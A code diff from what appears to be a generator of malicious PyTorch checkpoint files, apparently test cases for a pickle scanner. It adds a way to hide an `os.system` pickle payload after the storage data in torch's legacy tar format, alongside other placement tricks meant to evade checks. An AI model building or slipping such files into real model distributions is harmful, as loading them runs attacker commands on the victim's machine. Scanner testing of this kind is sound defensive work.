@@ -328,13 +328,16 @@ def legacy(obj: bytes, *, magic: bytes | None = None, sys_info: bytes | None = N
             + obj + (keys if keys is not None else pickle.dumps([], protocol=2)))
 
 
-def legacy_tar(pkl: bytes) -> bytes:
-    """torch 0.1's tar format, which torch.load still tries first: its `pickle` member runs."""
+def legacy_tar(pkl: bytes, views: bytes | None = None) -> bytes:
+    """torch 0.1's tar format, which torch.load still tries first: its `pickle` member runs, and so
+    does every pickle of its `storages` member (here one float storage of 2 elements, its raw bytes,
+    then the storage views: `views`, if given, instead of an empty list)."""
+    storage = p2(b"(" + u("0") + u("cpu") + g("torch", "FloatStorage") + b"t")
+    storages = (pickle.dumps(1, protocol=2) + storage + struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0)
+                + (views if views is not None else pickle.dumps([], protocol=2)))
     out = io.BytesIO()
     with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as tar:
-        for name, data in (("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
-                           ("tensors", pickle.dumps(0, protocol=2)),
-                           ("pickle", pkl)):
+        for name, data in (("storages", storages), ("tensors", pickle.dumps(0, protocol=2)), ("pickle", pkl)):
             info = tarfile.TarInfo(name)
             info.size = len(data)
             tar.addfile(info, io.BytesIO(data))
@@ -379,6 +382,7 @@ TRICKS = {
     "legacy-payload-in-storage-keys": lambda s: legacy(pickle.dumps({}, protocol=2), keys=os_system(s)),
     "legacy-payload-in-magic": lambda s: legacy(pickle.dumps({}, protocol=2), magic=os_system(s)),
     "legacy-tar": lambda s: legacy_tar(os_system(s)),
+    "legacy-tar-payload-after-storage-data": lambda s: legacy_tar(BENIGN_PKL, views=os_system(s)),
     # "ustar" where a tar header has it, but no valid tar header: torch falls through to the pickle
     "pickle-posing-as-tar": lambda s: os_system(s).ljust(257, b"\0") + b"ustar\x0000".ljust(255, b"\0"),
 }
